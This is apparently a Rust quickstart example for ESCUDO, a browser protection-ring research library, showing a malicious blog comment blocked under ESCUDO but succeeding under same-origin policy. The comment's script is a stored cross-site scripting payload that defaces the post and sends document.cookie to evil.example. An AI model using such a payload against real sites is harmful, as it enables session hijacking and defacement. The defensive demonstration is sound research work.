//! Quickstart: the paper's Figure 3 blog page.
//!
//! A blog post (ring 1), an advertising slot (ring 2) and reader comments (ring 3)
//! share one page. A malicious comment tries to rewrite the post and steal the session
//! cookie; under ESCUDO both attempts are denied by the reference monitor, while the
//! benign application script and the well-behaved ad keep working.
//!
//! Run with: `cargo run --example quickstart`

use escudo::apps::BlogApp;
use escudo::browser::{Browser, PolicyMode};
use escudo::net::Request;

fn main() {
    // A reader posts a malicious comment (the blog's input validation is off, so the
    // payload reaches the page verbatim — the browser is the last line of defense).
    let blog = BlogApp::new();
    let state = blog.state();
    state
        .lock()
        .unwrap()
        .comments
        .push(escudo::apps::blog::Comment {
            id: 1,
            author: "mallory".to_string(),
            body: "<script>\
               document.getElementById('post-body').innerHTML = 'buy cheap pills';\
               var beacon = document.createElement('img');\
               beacon.setAttribute('src', 'http://evil.example/steal?c=' + document.cookie);\
               document.body.appendChild(beacon);\
               </script>"
                .to_string(),
        });

    for mode in [PolicyMode::SameOriginOnly, PolicyMode::Escudo] {
        println!("== loading the blog under {mode} ==");
        let mut browser = Browser::new(mode);
        // Each browser gets its own copy of the application state so the two runs are
        // independent.
        let blog = BlogApp::new();
        blog.state()
            .lock()
            .unwrap()
            .comments
            .clone_from(&state.lock().unwrap().comments);
        browser.fabric().register("http://blog.example", blog);
        browser
            .fabric()
            .register("http://evil.example", |_req: &Request| {
                escudo::net::Response::ok_text("logged")
            });

        browser
            .navigate("http://blog.example/login?user=reader")
            .unwrap();
        let page = browser.navigate("http://blog.example/").unwrap();

        let post = browser.page(page).text_of("post-body").unwrap_or_default();
        println!("  post body ........... {post:?}");
        println!(
            "  ad slot ............. {:?}",
            browser
                .page(page)
                .text_of("ad-slot-text")
                .unwrap_or_default()
        );
        for outcome in &browser.page(page).script_outcomes {
            println!(
                "  script in {:<8} -> {}",
                outcome.ring.to_string(),
                match &outcome.result {
                    Ok(_) => "ran to completion".to_string(),
                    Err(e) => e.clone(),
                }
            );
        }
        let exfiltrated = browser
            .fabric()
            .requests_to("evil.example")
            .iter()
            .any(|r| r.url.query().contains("blog_session"));
        println!("  session cookie exfiltrated? {exfiltrated}");
        println!(
            "  reference monitor: {} checks, {} denials",
            browser.erm().checks(),
            browser.erm().denials()
        );
        println!();
    }

    println!("Under the same-origin policy the comment rewrites the post and leaks the cookie.");
    println!("Under ESCUDO both accesses violate the ring/ACL rules and the page is unharmed.");
}
